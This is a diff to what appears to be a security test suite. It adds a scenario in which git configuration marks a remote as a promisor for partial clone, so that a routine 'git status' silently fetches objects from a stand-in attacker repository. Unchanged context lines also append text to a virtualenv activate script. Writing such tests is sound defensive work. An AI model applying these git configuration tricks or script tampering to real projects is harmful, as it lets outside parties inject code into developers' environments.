@@ -328,6 +328,23 @@ def replaces_a_program_of_an_environment(case: Case) -> Plot:
     return Plot("echo evil >> .venv/bin/activate", check=lambda: "evil" in _text(script))
 
 
+@attack(LANDED, needs=has_program("git"))
+def promises_missing_objects(case: Case) -> Plot:
+    """Makes a repository that lacks objects, which a plain git status then gets from a server of the attacker's."""
+    case.repository()
+    theirs, new = case.outside / "theirs.git", case.project / "new"
+    case.git("clone", "-q", "--bare", ".", str(theirs))
+    tree = "$(git rev-parse HEAD^{tree} | sed s,^..,\\&/,)"
+    settings = f"remote.x.url {theirs}", "remote.x.promisor true", "core.repositoryFormatVersion 1"
+
+    def is_fetched() -> bool:
+        case.git("status", cwd=new)
+        return any((new / ".git/objects/pack").iterdir())
+
+    promise = "; ".join(f"git config {each}" for each in (*settings, "extensions.partialClone x"))
+    return Plot(f"mkdir new; cp -r .git new/; cd new; rm -f .git/objects/{tree}; {promise}", check=is_fetched)
+
+
 @attack(LANDED)
 def names_code_for_a_linter(case: Case) -> Plot:
     """Names a plugin in a linter's settings, which an editor's linter loads."""
